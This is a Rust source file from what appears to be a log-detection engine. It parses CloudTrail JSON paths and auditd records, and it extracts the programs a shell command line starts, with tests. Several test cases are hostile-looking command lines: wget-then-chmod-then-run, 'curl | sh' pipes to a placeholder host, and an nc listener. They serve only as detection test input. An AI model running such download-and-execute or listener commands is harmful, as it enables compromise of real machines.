//! What a rule's `field` may name: a column of its table, or a value derived from one.
//!
//! - `request.userName`, `response.ConsoleLogin`, `additional.MFAUsed`, `resources.ARN` on
//!   `cloudtrail`: a dotted path into the JSON a column holds (arrays on the way are walked
//!   element by element, so `request.containerDefinitions.command` reads every container).
//! - `auditd.a0`, `auditd.type`, `auditd.exe`, ... on `host_events`: a key of the auditd records
//!   of the event (every record, decoded: see [`auditq_parse::host::auditd_values`]).
//! - `programs` on `commands` (and `host_events`): the programs a command line starts, one per
//!   line, as `/name` when the line gives no directory (`cd /tmp; sudo ./x | sh` starts `/cd`,
//!   `/sudo`, `./x`, `/sh`): what a process-creation log would call each process's image, as far
//!   as the line shows it.
//!
//! A derived field can hold several values. They are given to the automaton one per line, and
//! a test anchored at both ends (`equals`, `prefix`, `suffix`, `in`) holds when one value passes
//! it: such tests are compiled with line anchors (see [`Accessor::multi`]).

use std::borrow::Cow;

use auditq_model::Table;

use crate::engine::{EventView, table_fields};

/// How a field is read from an event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Accessor {
    /// A column.
    Column(String),
    /// A path into the JSON of a column.
    Json {
        /// The column.
        column: &'static str,
        /// The keys, outermost first.
        path: Vec<String>,
    },
    /// A key of the auditd records in `raw`.
    Auditd(String),
    /// The programs a command line starts.
    Programs(&'static str),
}

/// JSON columns of `cloudtrail`, as a path names them.
const JSON_COLUMNS: &[&str] = &["request", "response", "additional", "resources"];

impl Accessor {
    /// Reads a field name of `table`; the error lists what the table offers.
    pub fn parse(table: Table, name: &str) -> Result<Accessor, String> {
        let columns = table_fields(table);
        if columns.contains(&name) {
            return Ok(Accessor::Column(name.to_string()));
        }
        if let Some((column, path)) = name.split_once('.')
            && table == Table::Cloudtrail
            && let Some(column) = JSON_COLUMNS.iter().find(|c| **c == column)
            && !path.is_empty()
        {
            return Ok(Accessor::Json {
                column,
                path: path.split('.').map(str::to_string).collect(),
            });
        }
        if let Some(key) = name.strip_prefix("auditd.")
            && table == Table::HostEvents
            && !key.is_empty()
        {
            return Ok(Accessor::Auditd(key.to_string()));
        }
        if name == "programs" && matches!(table, Table::Commands | Table::HostEvents) {
            return Ok(Accessor::Programs("cmd"));
        }
        let derived = match table {
            Table::Cloudtrail => {
                ", or request.*, response.*, additional.*, resources.* (JSON paths)"
            }
            Table::HostEvents => ", or auditd.KEY (a key of the auditd records), programs",
            Table::Commands => ", or programs",
            _ => "",
        };
        Err(format!(
            "unknown field {name:?} of {table}; it has {}{derived}",
            columns.join(", ")
        ))
    }

    /// Whether the field can hold several values (one per line).
    pub fn multi(&self) -> bool {
        !matches!(self, Accessor::Column(_))
    }

    /// The field's value in `event` (several values one per line); `None` when absent.
    pub fn read<'e>(&self, event: &'e dyn EventView) -> Option<Cow<'e, str>> {
        match self {
            Accessor::Column(name) => event.field(name),
            Accessor::Json { column, path } => {
                let text = event.field(column)?;
                let value: serde_json::Value = serde_json::from_str(&text).ok()?;
                let mut found = Vec::new();
                walk(&value, path, &mut found);
                joined(found)
            }
            Accessor::Auditd(key) => {
                let raw = event.field("raw")?;
                if event.field("program").as_deref() != Some("auditd") {
                    return None;
                }
                joined(auditq_parse::host::auditd_values(&raw, key))
            }
            Accessor::Programs(column) => {
                let joined = programs_joined(&event.field(column)?);
                (!joined.is_empty()).then_some(Cow::Owned(joined))
            }
        }
    }
}

fn joined(values: Vec<String>) -> Option<Cow<'static, str>> {
    (!values.is_empty()).then(|| Cow::Owned(values.join("\n")))
}

/// The values at `path` under `value`; arrays are walked element by element.
fn walk(value: &serde_json::Value, path: &[String], found: &mut Vec<String>) {
    use serde_json::Value;
    match (value, path.split_first()) {
        (Value::Array(items), _) => items.iter().for_each(|item| walk(item, path, found)),
        (Value::Object(map), Some((key, rest))) => {
            if let Some(inner) = map.get(key) {
                walk(inner, rest, found);
            }
        }
        (_, Some(_)) | (Value::Null, None) => {}
        (Value::String(text), None) => found.push(text.clone()),
        (other, None) => found.push(other.to_string()),
    }
}

/// Programs that run the program named after their options.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "nohup", "nice", "timeout", "time", "exec", "command", "busybox",
    "setsid", "stdbuf", "xargs", "strace", "chroot", "su",
];

/// Whether a wrapper's option is followed by its value as a separate word.
fn takes_value(wrapper: &str, option: &str) -> bool {
    let with_value: &[&str] = match wrapper {
        "sudo" | "doas" => &["-u", "-g", "-C", "-p", "-r", "-t", "-U", "-h", "-D", "-T"],
        "su" => &["-c", "-s", "-g", "-G", "-w"],
        "nice" => &["-n"],
        "env" => &["-u", "-C", "-S"],
        "timeout" => &["-s", "-k"],
        "xargs" => &["-I", "-n", "-P", "-d", "-a", "-E", "-L", "-s"],
        "strace" => &["-o", "-e", "-p", "-s", "-u"],
        _ => &[],
    };
    with_value.contains(&option)
}

/// The programs a command line starts, in order, as `/name` or the path written.
///
/// The line is read as a shell reads it, far enough for this: `;`, `|`, `&`, newlines and
/// parentheses separate commands outside quotes; quoted text is one word (so `ssh host "cd /x;
/// nohup y"` starts only `ssh`: the rest runs elsewhere), except what runs here after all: the
/// `-c` script of a shell (`sh -c 'curl x | sh'`) and command substitutions (`$(...)` and
/// backticks, also inside double quotes). Braces are words, as in the shell: a group's `{`
/// and `}` are passed over where a program would be (`{ curl x | sh; }`), and `find . -exec
/// cp {} /tmp/x \;` starts `find` alone, not a program `/tmp/x`.
pub fn programs(line: &str) -> Vec<String> {
    let mut found = Vec::new();
    collect_programs(
        line,
        &mut |program| {
            let mut named = String::new();
            push_program(&mut named, program);
            found.push(named);
        },
        0,
    );
    found
}

/// A program as `programs` names it: the path written, or `/name` when it gives no directory.
fn push_program(out: &mut String, word: &str) {
    if !word.bytes().any(|b| b == b'/') {
        out.push('/');
    }
    out.push_str(word);
}

/// The programs of `line`, one per line of the text (what the `programs` field holds).
fn programs_joined(line: &str) -> String {
    let mut joined = String::with_capacity(line.len() + 8);
    collect_programs(
        line,
        &mut |program| {
            if !joined.is_empty() {
                joined.push('\n');
            }
            push_program(&mut joined, program);
        },
        0,
    );
    joined
}

/// Shells whose `-c` argument is a script run on this host.
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash", "su"];

/// Reads a line's words on demand, command by command: a command's program is decided from
/// its first words, and the rest of it is only scanned for where it ends and for the command
/// substitutions it holds (every field test reads `programs` of every line, so the words after
/// the program are not copied anywhere).
struct Reader<'a> {
    line: &'a str,
    /// The next byte to read.
    at: usize,
    /// The command being read has ended (at a separator or the line's end).
    ended: bool,
    /// The word last read, quotes removed.
    word: String,
    /// Command substitutions met so far, read after the line's own commands.
    nested: Vec<&'a str>,
}

/// Where a [`Reader`] was, to read ahead and come back.
#[derive(Clone, Copy)]
struct Mark {
    at: usize,
    ended: bool,
    nested: usize,
}

impl<'a> Reader<'a> {
    /// A reader of `line` keeping its words in `word` (a buffer lent for the line).
    fn new(line: &'a str, word: String) -> Self {
        Reader {
            line,
            at: 0,
            ended: false,
            word,
            nested: Vec::new(),
        }
    }

    fn mark(&self) -> Mark {
        Mark {
            at: self.at,
            ended: self.ended,
            nested: self.nested.len(),
        }
    }

    fn back_to(&mut self, mark: Mark) {
        self.at = mark.at;
        self.ended = mark.ended;
        self.nested.truncate(mark.nested);
    }

    /// Skips what is left of the command, noting its substitutions. Words do not matter
    /// here, only quotes, escapes, substitutions and separators (all ASCII), so every other
    /// byte is passed over.
    fn skip_command(&mut self) {
        if self.ended {
            return;
        }
        let (line, bytes) = (self.line, self.line.as_bytes());
        while self.at < bytes.len() {
            let i = self.at;
            if !SPECIAL[usize::from(bytes[i])] {
                self.at = bytes[i..]
                    .iter()
                    .position(|b| SPECIAL[usize::from(*b)])
                    .map_or(bytes.len(), |p| i + p);
                continue;
            }
            match bytes[i] {
                b';' | b'|' | b'&' | b'\n' | b'(' | b')' => {
                    self.at = i + 1;
                    self.ended = true;
                    return;
                }
                b'\\' => self.at = i + 1 + char_at(line, i + 1).map_or(0, |(_, len)| len),
                b'\'' => {
                    let close = bytes[i + 1..].iter().position(|b| *b == b'\'');
                    self.at = close.map_or(bytes.len(), |p| i + 1 + p) + 1;
                }
                b'"' => self.double_quoted(false),
                b'`' | b'$' => match substitution(line, i) {
                    Some((script, next)) => {
                        self.nested.push(script);
                        self.at = next;
                    }
                    None => self.at = i + 1,
                },
                _ => self.at = i + 1,
            }
        }
        self.ended = true;
    }

    /// Reads the command's next word into `word`, quotes removed; `false` once the command
    /// has ended. An empty quoted word (`''`) or a bare substitution is a word too.
    fn next_word(&mut self) -> bool {
        self.word.clear();
        if self.ended {
            return false;
        }
        let (line, bytes) = (self.line, self.line.as_bytes());
        let mut open = false;
        while self.at < bytes.len() {
            let i = self.at;
            let b = bytes[i];
            if ORDINARY[usize::from(b)] {
                let mut end = i + 1;
                while end < bytes.len() && ORDINARY[usize::from(bytes[end])] {
                    end += 1;
                }
                self.word.push_str(&line[i..end]);
                open = true;
                self.at = end;
                continue;
            }
            match b {
                b'\\' => {
                    open = true;
                    match char_at(line, i + 1) {
                        Some((next, len)) => {
                            self.word.push(next);
                            self.at = i + 1 + len;
                        }
                        None => self.at = i + 1,
                    }
                    continue;
                }
                b'\'' => {
                    let close = bytes[i + 1..].iter().position(|b| *b == b'\'');
                    let stop = close.map_or(bytes.len(), |p| i + 1 + p);
                    self.word.push_str(&line[i + 1..stop]);
                    open = true;
                    self.at = stop + 1;
                    continue;
                }
                b'"' => {
                    self.double_quoted(true);
                    open = true;
                    continue;
                }
                b'`' | b'$' => {
                    if let Some((script, next)) = substitution(line, i) {
                        self.nested.push(script);
                        open = true;
                        self.at = next;
                        continue;
                    }
                }
                _ => {}
            }
            let (c, len) = if b.is_ascii() {
                (char::from(b), 1)
            } else {
                char_at(line, i).unwrap_or(('\u{fffd}', 1))
            };
            self.at = i + len;
            if c.is_whitespace() && c != '\n' {
                if open {
                    return true;
                }
            } else if matches!(c, ';' | '|' | '&' | '\n' | '(' | ')') {
                self.ended = true;
                return open;
            } else {
                self.word.push(c);
                open = true;
            }
        }
        self.ended = true;
        open
    }

    /// Reads a double-quoted part from its opening quote: escapes, substitutions (run here
    /// too) and the text, up to the closing quote.
    fn double_quoted(&mut self, keep: bool) {
        let (line, bytes) = (self.line, self.line.as_bytes());
        let mut i = self.at + 1;
        while i < bytes.len() && bytes[i] != b'"' {
            if bytes[i] == b'\\'
                && let Some((next, len)) = char_at(line, i + 1)
            {
                if keep {
                    self.word.push(next);
                }
                i += 1 + len;
                continue;
            }
            if let Some((script, next)) = substitution(line, i) {
                self.nested.push(script);
                i = next;
                continue;
            }
            let (c, len) = char_at(line, i).unwrap_or(('\u{fffd}', 1));
            if keep {
                self.word.push(c);
            }
            i += len;
        }
        self.at = i + 1;
    }
}

/// Whether a byte is ASCII and part of a word and nothing else: not a quote, an escape, a
/// substitution, a separator or white space (a table: it is asked of every byte of every line).
const ORDINARY: [bool; 256] = {
    let mut table = [false; 256];
    let mut b = 0x21;
    while b < 0x7f {
        table[b] = !matches!(
            b as u8,
            b'\\' | b'\'' | b'"' | b'`' | b'$' | b';' | b'|' | b'&' | b'(' | b')'
        );
        b += 1;
    }
    table
};

/// Whether a byte ends a command or starts a quote, an escape or a substitution: all that
/// matters in the words after a command's program.
const SPECIAL: [bool; 256] = {
    let mut table = [false; 256];
    let special = b";|&\n()\\'\"`$";
    let mut k = 0;
    while k < special.len() {
        table[special[k] as usize] = true;
        k += 1;
    }
    table
};

/// The character at byte `at` of `line` and its length in bytes.
fn char_at(line: &str, at: usize) -> Option<(char, usize)> {
    let c = line.get(at..)?.chars().next()?;
    Some((c, c.len_utf8()))
}

/// Calls `found` with each program `line` starts, as written; the commands it separates are
/// read as their separators end them, and command substitutions after the line's own commands.
fn collect_programs(line: &str, found: &mut dyn FnMut(&str), depth: usize) {
    if depth > 4 {
        return;
    }
    // The word buffer is this thread's, lent to the line (a nested script, rare, gets one of
    // its own): one allocation less a line.
    let lent = WORD.with_borrow_mut(std::mem::take);
    let mut reader = Reader::new(line, lent);
    while reader.at < line.len() {
        reader.ended = false;
        program_of(&mut reader, found, depth);
        reader.skip_command();
    }
    let Reader { word, nested, .. } = reader;
    WORD.with_borrow_mut(|kept| *kept = word);
    for script in nested {
        collect_programs(script, found, depth + 1);
    }
}

thread_local! {
    static WORD: std::cell::RefCell<String> = const { std::cell::RefCell::new(String::new()) };
}

/// A command substitution starting at byte `i` (`$(...)` or a backtick): its text and where
/// it ends.
fn substitution(line: &str, i: usize) -> Option<(&str, usize)> {
    let bytes = line.as_bytes();
    if bytes.get(i) == Some(&b'`') {
        let close = bytes[i + 1..].iter().position(|b| *b == b'`')?;
        return Some((&line[i + 1..i + 1 + close], i + close + 2));
    }
    if bytes.get(i) == Some(&b'$') && bytes.get(i + 1) == Some(&b'(') {
        let mut depth = 0;
        for (at, b) in bytes.iter().enumerate().skip(i + 1) {
            match b {
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth == 0 {
                        return Some((&line[i + 2..at], at + 1));
                    }
                }
                _ => {}
            }
        }
        return Some((&line[i + 2..], bytes.len()));
    }
    None
}

/// The program (and those it wraps) one command starts; a shell's `-c` script is read too.
fn program_of(reader: &mut Reader<'_>, found: &mut dyn FnMut(&str), depth: usize) {
    let mut wrapper: Option<&'static str> = None;
    let mut skip_value = false;
    while reader.next_word() {
        let word = reader.word.as_str();
        if word.is_empty() {
            continue;
        }
        let assignment = word.contains('=') && !word.starts_with(['=', '/', '.', '-']);
        if assignment || skip_value {
            skip_value = false;
            continue;
        }
        if let Some(wrapper) = wrapper
            && (word.starts_with('-') || word.parse::<f64>().is_ok())
        {
            // Options of a wrapper (`sudo -u root`, `timeout 5`), and the value of those that
            // take one.
            skip_value = takes_value(wrapper, word);
            continue;
        }
        if matches!(
            word,
            "if" | "then" | "else" | "do" | "while" | "until" | "!" | "{" | "}"
        ) {
            continue;
        }
        found(word);
        let name = match word.bytes().rposition(|b| b == b'/') {
            Some(slash) => &word[slash + 1..],
            None => word,
        };
        let shell = SHELLS.contains(&name);
        let wraps = WRAPPERS.iter().find(|w| **w == name).copied();
        if shell {
            // The script after `-c`, read ahead; without one, read on from here.
            let mark = reader.mark();
            if let Some(script) = script_after_dash_c(reader) {
                collect_programs(&script, found, depth + 1);
                return;
            }
            reader.back_to(mark);
        }
        match wraps {
            Some(name) => wrapper = Some(name),
            None => return,
        }
    }
}

/// The word after the command's first `-c`, reading on.
fn script_after_dash_c(reader: &mut Reader<'_>) -> Option<String> {
    while reader.next_word() {
        if reader.word == "-c" {
            return reader.next_word().then(|| reader.word.clone());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::FieldsEvent;
    use std::collections::BTreeMap;

    /// The first, one `String` a word, reading of a line's programs: the reference the
    /// buffer-reusing reading must agree with.
    mod reference {
        use super::super::{SHELLS, WRAPPERS, takes_value};

        pub fn programs(line: &str) -> Vec<String> {
            let mut found = Vec::new();
            collect_programs(line, &mut found, 0);
            found
        }

        fn collect_programs(line: &str, found: &mut Vec<String>, depth: usize) {
            if depth > 4 {
                return;
            }
            let mut nested = Vec::new();
            for words in commands(line, &mut nested) {
                program_of(&words, found, depth);
            }
            for script in nested {
                collect_programs(&script, found, depth + 1);
            }
        }

        /// The commands of a line as words (quotes removed), and the command substitutions met.
        fn commands(line: &str, nested: &mut Vec<String>) -> Vec<Vec<String>> {
            let chars: Vec<char> = line.chars().collect();
            let mut commands = Vec::new();
            let mut words: Vec<String> = Vec::new();
            let mut word = String::new();
            let mut in_word = false;
            let mut i = 0;
            let end_word = |words: &mut Vec<String>, word: &mut String, in_word: &mut bool| {
                if *in_word {
                    words.push(std::mem::take(word));
                    *in_word = false;
                }
            };
            while i < chars.len() {
                let c = chars[i];
                match c {
                    '\\' => {
                        if let Some(next) = chars.get(i + 1) {
                            word.push(*next);
                            in_word = true;
                        }
                        i += 2;
                        continue;
                    }
                    '\'' => {
                        let close = chars[i + 1..].iter().position(|c| *c == '\'');
                        let stop = close.map_or(chars.len(), |p| i + 1 + p);
                        word.extend(&chars[i + 1..stop]);
                        in_word = true;
                        i = stop + 1;
                        continue;
                    }
                    '"' => {
                        i += 1;
                        while i < chars.len() && chars[i] != '"' {
                            if chars[i] == '\\' && i + 1 < chars.len() {
                                word.push(chars[i + 1]);
                                i += 2;
                                continue;
                            }
                            if let Some((script, next)) = substitution(&chars, i) {
                                nested.push(script);
                                i = next;
                                continue;
                            }
                            word.push(chars[i]);
                            i += 1;
                        }
                        in_word = true;
                        i += 1;
                        continue;
                    }
                    _ => {}
                }
                if let Some((script, next)) = substitution(&chars, i) {
                    nested.push(script);
                    in_word = true;
                    i = next;
                    continue;
                }
                if c.is_whitespace() && c != '\n' {
                    end_word(&mut words, &mut word, &mut in_word);
                } else if matches!(c, ';' | '|' | '&' | '\n' | '(' | ')') {
                    end_word(&mut words, &mut word, &mut in_word);
                    if !words.is_empty() {
                        commands.push(std::mem::take(&mut words));
                    }
                } else {
                    word.push(c);
                    in_word = true;
                }
                i += 1;
            }
            end_word(&mut words, &mut word, &mut in_word);
            if !words.is_empty() {
                commands.push(words);
            }
            commands
        }

        /// A command substitution starting at `i` (`$(...)` or a backtick): its text and where it ends.
        fn substitution(chars: &[char], i: usize) -> Option<(String, usize)> {
            if chars.get(i) == Some(&'`') {
                let close = chars[i + 1..].iter().position(|c| *c == '`')?;
                return Some((chars[i + 1..i + 1 + close].iter().collect(), i + close + 2));
            }
            if chars.get(i) == Some(&'$') && chars.get(i + 1) == Some(&'(') {
                let mut depth = 0;
                for (at, c) in chars.iter().enumerate().skip(i + 1) {
                    match c {
                        '(' => depth += 1,
                        ')' => {
                            depth -= 1;
                            if depth == 0 {
                                return Some((chars[i + 2..at].iter().collect(), at + 1));
                            }
                        }
                        _ => {}
                    }
                }
                return Some((chars[i + 2..].iter().collect(), chars.len()));
            }
            None
        }

        /// The program (and those it wraps) one command starts; a shell's `-c` script is read too.
        fn program_of(words: &[String], found: &mut Vec<String>, depth: usize) {
            let mut wrapper: Option<&str> = None;
            let mut skip_value = false;
            for (at, word) in words.iter().enumerate() {
                let word = word.as_str();
                if word.is_empty() {
                    continue;
                }
                let assignment = word.contains('=') && !word.starts_with(['=', '/', '.', '-']);
                if assignment || skip_value {
                    skip_value = false;
                    continue;
                }
                if let Some(wrapper) = wrapper
                    && (word.starts_with('-') || word.parse::<f64>().is_ok())
                {
                    // Options of a wrapper (`sudo -u root`, `timeout 5`), and the value of those that
                    // take one.
                    skip_value = takes_value(wrapper, word);
                    continue;
                }
                if matches!(
                    word,
                    "if" | "then" | "else" | "do" | "while" | "until" | "!" | "{" | "}"
                ) {
                    continue;
                }
                let name = word.rsplit('/').next().unwrap_or(word);
                found.push(if word.contains('/') {
                    word.to_string()
                } else {
                    format!("/{word}")
                });
                if SHELLS.contains(&name)
                    && let Some(script) = words[at + 1..]
                        .iter()
                        .position(|w| w == "-c")
                        .and_then(|p| words.get(at + 2 + p))
                {
                    collect_programs(script, found, depth + 1);
                    return;
                }
                if WRAPPERS.contains(&name) {
                    wrapper = Some(name);
                } else {
                    return;
                }
            }
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2048))]
        #[test]
        fn programs_read_as_the_reference_does(
            line in "([a-z/.=-]{1,6}|[ ;|&\\n(){}'\"`$\\\\]|\\$\\(|-c|sh|sudo|\u{a0}|é){0,24}"
        ) {
            proptest::prop_assert_eq!(programs(&line), reference::programs(&line));
        }
    }

    #[test]
    fn programs_of_real_lines_read_as_the_reference_does() {
        let corpus = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../shared/corpora/shell-commands/all.cm"
        );
        // The corpora (../shared) are optional, as in the conformance tests; the property
        // above runs everywhere.
        let Ok(text) = std::fs::read_to_string(corpus) else {
            return;
        };
        for line in text.lines() {
            assert_eq!(programs(line), reference::programs(line), "{line}");
        }
        assert!(text.lines().count() > 10_000);
    }

    #[test]
    fn programs_of_command_lines() {
        let cases: &[(&str, &[&str])] = &[
            ("ls -la", &["/ls"]),
            (
                "cd /tmp; wget http://x/a && chmod +x a; ./a",
                &["/cd", "/wget", "/chmod", "./a"],
            ),
            ("sudo -u root /usr/bin/id", &["/sudo", "/usr/bin/id"]),
            ("sudo -n id", &["/sudo", "/id"]),
            ("timeout 5 nc -l 4444", &["/timeout", "/nc"]),
            ("curl -s http://x | sh", &["/curl", "/sh"]),
            ("LANG=C nohup perl x.pl &", &["/nohup", "/perl"]),
            ("echo $(whoami)", &["/echo", "/whoami"]),
            (
                "ssh user@host \"cd /srv; nohup ./run > /dev/null\"",
                &["/ssh"],
            ),
            ("sh -c 'curl -s x | sh'", &["/sh", "/curl", "/sh"]),
            ("echo \"id: `id -u`\"", &["/echo", "/id"]),
            ("sudo su -c 'chmod +x /tmp/a'", &["/sudo", "/su", "/chmod"]),
            ("grep 'a;b|c' f", &["/grep"]),
            (
                "find . -name '*.mp3' -exec cp {} /tmp/MusicFiles \\;",
                &["/find"],
            ),
            ("{ curl -s x | sh; }", &["/curl", "/sh"]),
            ("echo ${HOME}/x; id", &["/echo", "/id"]),
            ("", &[]),
        ];
        for (line, expected) in cases {
            assert_eq!(programs(line), *expected, "{line}");
        }
    }

    #[test]
    fn json_paths_walk_arrays() {
        let event = FieldsEvent {
            table: Table::Cloudtrail,
            fields: BTreeMap::from([(
                "request".to_string(),
                r#"{"userName":"bob","containerDefinitions":[{"command":["sh","-c","id"]},{"command":["ls"]}],"n":3,"z":null}"#.to_string(),
            )]),
        };
        let read = |name: &str| {
            Accessor::parse(Table::Cloudtrail, name)
                .unwrap_or_else(|e| panic!("{e}"))
                .read(&event)
                .map(|v| v.into_owned())
        };
        assert_eq!(read("request.userName").as_deref(), Some("bob"));
        assert_eq!(
            read("request.containerDefinitions.command").as_deref(),
            Some("sh\n-c\nid\nls")
        );
        assert_eq!(read("request.n").as_deref(), Some("3"));
        assert_eq!(read("request.z"), None);
        assert_eq!(read("request.missing"), None);
        assert_eq!(read("event_name"), None);
        assert!(Accessor::parse(Table::Cloudtrail, "userIdentity.x").is_err());
        assert!(Accessor::parse(Table::Commands, "request.x").is_err());
    }

    #[test]
    fn auditd_keys_are_decoded() {
        let raw = "type=SYSCALL msg=audit(1.0:7): arch=c000003e syscall=59 a0=55d1 exe=\"/usr/bin/wget\" key=(null)\n\
                   type=EXECVE msg=audit(1.0:7): argc=3 a0=\"wget\" a1=2D71 a2=\"http://x/a b\"\n\
                   type=PATH msg=audit(1.0:7): item=0 name=2F746D702F6120622E7368";
        let event = FieldsEvent {
            table: Table::HostEvents,
            fields: BTreeMap::from([
                ("raw".to_string(), raw.to_string()),
                ("program".to_string(), "auditd".to_string()),
            ]),
        };
        let read = |key: &str| {
            Accessor::Auditd(key.to_string())
                .read(&event)
                .map(|v| v.into_owned())
        };
        assert_eq!(read("type").as_deref(), Some("SYSCALL\nEXECVE\nPATH"));
        // SYSCALL's a0 is a number, EXECVE's a1 hex-encoded text.
        assert_eq!(read("a0").as_deref(), Some("55d1\nwget"));
        assert_eq!(read("a1").as_deref(), Some("-q"));
        assert_eq!(read("a2").as_deref(), Some("http://x/a b"));
        assert_eq!(read("exe").as_deref(), Some("/usr/bin/wget"));
        assert_eq!(read("name").as_deref(), Some("/tmp/a b.sh"));
        assert_eq!(read("uid"), None);
    }
}
